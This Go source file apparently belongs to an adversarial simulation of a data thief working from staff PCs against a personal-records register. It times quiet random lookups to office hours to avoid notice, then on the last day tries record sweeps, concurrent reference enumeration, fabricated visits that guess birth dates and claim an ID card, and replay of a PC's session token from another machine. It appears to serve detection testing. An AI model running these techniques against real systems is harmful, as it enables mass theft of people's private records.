package thief

import (
	"context"
	"errors"
	"math/rand/v2"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// How the thief goes about its days. It is patient: a staff member opens 20 to 120
// participants a day, and what it does on a PC beside that isn't more.
const (
	between  = 3 * time.Minute // two steps of the quiet ways on one PC, in office hours
	lookOut  = 20 * time.Minute
	opens    = 9 // o'clock
	closes   = 17
	loud     = 14  // o'clock of the last day: the fast ways, when nothing is left to lose
	stubborn = 200 // refusals in a row end a fast way
)

// campaign is the theft of days.
type campaign struct {
	*thief
	clock clock
	until time.Time
	known []person
	order atomic.Int64 // of the known people
	size  int64        // of the register, found out by the first PC

	slow, targeted *attempt

	mu   sync.Mutex
	held map[string]pc
	list []pc
	seen []seen // masks, for who guesses births
}

type seen struct{ participant, year string }

func (t *thief) days(ctx context.Context) error {
	known, err := readKnown(t.config.Known)
	if err != nil {
		return err
	}
	c := &campaign{thief: t, clock: clock{t.config.Clock}, until: t.config.Until, known: known, held: map[string]pc{},
		slow: &attempt{name: "slow-search", out: t.out}, targeted: &attempt{name: "targeted", out: t.out}}
	var all sync.WaitGroup
	for fast := false; ; {
		fresh, err := c.refresh()
		if err != nil {
			return err
		}
		for _, one := range fresh {
			if _, err := c.clock.join(ctx, one.Device); err != nil {
				return err
			}
			all.Go(func() { c.quiet(ctx, one.Device) })
		}
		now, err := c.clock.sleep(ctx, "", lookOut)
		if err != nil || !now.Before(c.until) {
			break
		}
		if !fast && now.After(c.last()) {
			fast = true
			c.loud(ctx)
		}
	}
	all.Wait()
	c.slow.count()
	c.targeted.count()
	return t.out.failure()
}

// last is when the fast ways are tried.
func (c *campaign) last() time.Time {
	u := c.until
	return time.Date(u.Year(), u.Month(), u.Day(), loud, 0, 0, 0, u.Location())
}

// refresh reads the list of PCs, and returns those that are new.
func (c *campaign) refresh() (fresh []pc, err error) {
	list, err := readPCs(c.config.PCs)
	if err != nil {
		return nil, err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, one := range list {
		if _, known := c.held[one.Device]; !known {
			fresh = append(fresh, one)
		}
		c.held[one.Device] = one
	}
	c.list = list
	return fresh, nil
}

// seat is a PC's session, or a token of it elsewhere.
type seat struct {
	t     *thief
	token string
	http  *http.Client
}

func (c *campaign) seat(device string) (seat, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	one := c.held[device]
	return seat{c.thief, one.Token, c.http}, one.Token != ""
}

func (s seat) post(ctx context.Context, path string, in, out any) error {
	return s.t.postAs(ctx, s.http, s.token, path, in, out)
}

// quiet is one PC's part: in office hours a search for somebody drawn by lot, and
// one of those known from elsewhere, then a pause.
func (c *campaign) quiet(ctx context.Context, device string) {
	defer c.clock.leave(device)
	r := rand.New(rand.NewPCG(uint64(len(device)), uint64(c.order.Load())+uint64(device[len(device)-1])<<8))
	room := ""
	for pause := time.Duration(0); ; {
		now, err := c.clock.sleep(ctx, device, pause+time.Duration(r.Int64N(int64(time.Minute))))
		if err != nil || !now.Before(c.until) {
			return
		}
		now = now.In(c.until.Location())
		if now.Hour() < opens || now.Hour() >= closes || now.Weekday() == time.Sunday || now.Weekday() == time.Saturday {
			pause, room = time.Hour, ""
			continue
		}
		pause = between
		s, ok := c.seat(device)
		if !ok {
			continue
		}
		if room == "" {
			if room, err = s.open(ctx, "call"); err != nil {
				c.slow.end(err)
				pause = time.Hour
				continue
			}
		}
		c.slow.end(c.lot(ctx, s, room, r))
		if n := c.order.Add(1) - 1; n < int64(len(c.known)) {
			c.targeted.end(s.target(ctx, c.targeted, c.known[n]))
		}
	}
}

// lot searches for one ref drawn by lot.
func (c *campaign) lot(ctx context.Context, s seat, room string, r *rand.Rand) error {
	c.mu.Lock()
	size := c.size
	c.mu.Unlock()
	if size == 0 {
		var err error
		if size, err = s.size(ctx, c.slow, room); err != nil {
			return err
		}
		c.mu.Lock()
		c.size = size
		c.mu.Unlock()
	}
	_, err := s.look(ctx, c.slow, room, 1+r.Int64N(size))
	return err
}

// size doubles a ref until nobody has it, and halves the difference.
func (s seat) size(ctx context.Context, a *attempt, room string) (int64, error) {
	has, hasNot := int64(0), int64(highest)
	for n := int64(1); hasNot-has > 1; {
		found, err := s.look(ctx, a, room, n)
		if err != nil {
			return 0, err
		}
		if found != nil {
			has = n
		} else {
			hasNot = n
		}
		if n *= 2; n >= hasNot {
			n = (has + hasNot) / 2
		}
	}
	return has, nil
}

// loud is all that is fast, one way after another, each on another PC.
func (c *campaign) loud(ctx context.Context) {
	ways := []struct {
		name string
		f    func(context.Context, seat, *attempt) error
	}{{"sweep", c.sweepDays}, {"search", c.enumerate}, {"fabricated-case", c.fabricate}, {"token-elsewhere", c.elsewhere}}
	c.mu.Lock()
	list := c.list
	c.mu.Unlock()
	for i, way := range ways {
		device := list[i%len(list)].Device
		a := &attempt{name: way.name, out: c.out}
		if s, ok := c.seat(device); ok {
			err := way.f(ctx, s, a)
			a.end(err)
		}
		a.count()
	}
}

// sweepDays reads one record after another, with a new case for every ten.
func (c *campaign) sweepDays(ctx context.Context, s seat, a *attempt) (err error) {
	room := ""
	refused := 0
	for n := int64(1); refused < stubborn && ctx.Err() == nil; n++ {
		if n%10 == 1 {
			if room, err = s.open(ctx, "call"); err != nil {
				return err
			}
		}
		if err = s.take(ctx, a, room, "enquiry", map[string]any{"ref": ref(n)}, everything); err != nil {
			refused++
		} else {
			refused = 0
		}
	}
	return err
}

// enumerate looks up one ref after another, on some connections at once.
func (c *campaign) enumerate(ctx context.Context, s seat, a *attempt) error {
	room, err := s.open(ctx, "call")
	if err != nil {
		return err
	}
	var next atomic.Int64
	var all sync.WaitGroup
	ends := make([]error, searchers)
	for i := range ends {
		all.Go(func() {
			for missed := 0; missed < gap && ctx.Err() == nil; {
				found, err := s.look(ctx, a, room, next.Add(1))
				if ends[i] = err; err != nil {
					return
				}
				if missed++; found != nil {
					missed = 0
					c.mu.Lock()
					c.seen = append(c.seen, *found)
					c.mu.Unlock()
				}
			}
		})
	}
	all.Wait()
	return errors.Join(ends...)
}

// fabricate makes up visits of people whose mask it saw: it claims a document and
// guesses the day of birth within the year.
func (c *campaign) fabricate(ctx context.Context, s seat, a *attempt) (err error) {
	r := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < len(c.seen) && i < stubborn && ctx.Err() == nil; i++ {
		who := map[string]any{"participant": c.seen[i].participant}
		room, err := s.open(ctx, "visit")
		if err != nil {
			return err
		}
		for range 4 {
			day := time.Date(1, 1, 1+r.IntN(365), 0, 0, 0, 0, time.UTC).Format("-01-02")
			yes, err := s.check(ctx, a, room, "visit", who, "birth", c.seen[i].year+day)
			if err != nil {
				return err
			}
			if !yes {
				continue
			}
			if err := s.identify(ctx, room, who, "my-number-card"); err != nil {
				return err
			}
			if err := s.take(ctx, a, room, "visit", who, everything); err != nil {
				return err
			}
			break
		}
	}
	return err
}

// elsewhere uses a PC's token on a machine of the thief's own: another connection,
// without the PC's certificate.
func (c *campaign) elsewhere(ctx context.Context, s seat, a *attempt) error {
	own, err := c.trusting()
	if err != nil {
		return err
	}
	s.http = own
	for i := len(c.known) - 1; i >= 0 && i >= len(c.known)-20; i-- {
		if err := s.target(ctx, a, c.known[i]); err != nil {
			return err
		}
	}
	return nil
}
